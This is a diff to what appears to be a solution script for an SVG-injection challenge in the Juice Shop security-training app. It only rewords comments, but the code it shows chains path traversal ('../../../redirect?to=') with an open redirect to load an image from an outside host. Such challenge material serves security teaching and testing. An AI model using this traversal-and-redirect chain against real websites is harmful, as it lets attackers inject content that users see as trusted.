@@ -5,7 +5,7 @@ const SOURCES = 'https://github.com/juice-shop/juice-shop'
 const CAT = '/internet/purrbox.example/cat.svg'
 
 const show = (attacker: Attacker, decal: string) => attacker.emit('verifySvgInjectionChallenge', decal)
-/** Three folders up, and out by the redirect. */
+/** Decal that climbs three folders and then uses the redirect. */
 const leadTo = (to: string) => `../../../redirect?to=${to}`
 const showing = (decals: Readonly<Record<string, string>>): Record<string, Attack> =>
   Object.fromEntries(
@@ -15,7 +15,7 @@ const showing = (decals: Readonly<Record<string, string>>): Record<string, Attac
 export const proof = prove(challenge, {
   exploit: async (attacker) => {
     await attacker.get('/internet/purrbox.example/')
-    // A picture of the shop, then one a folder further up, show that the way up is free.
+    // A picture of the shop, then one addressed through the parent folder, show that path traversal works.
     await show(attacker, 'logo.svg')
     await show(attacker, '../images/logo.svg')
     await show(attacker, leadTo(`${CAT}?x=${SOURCES}`))
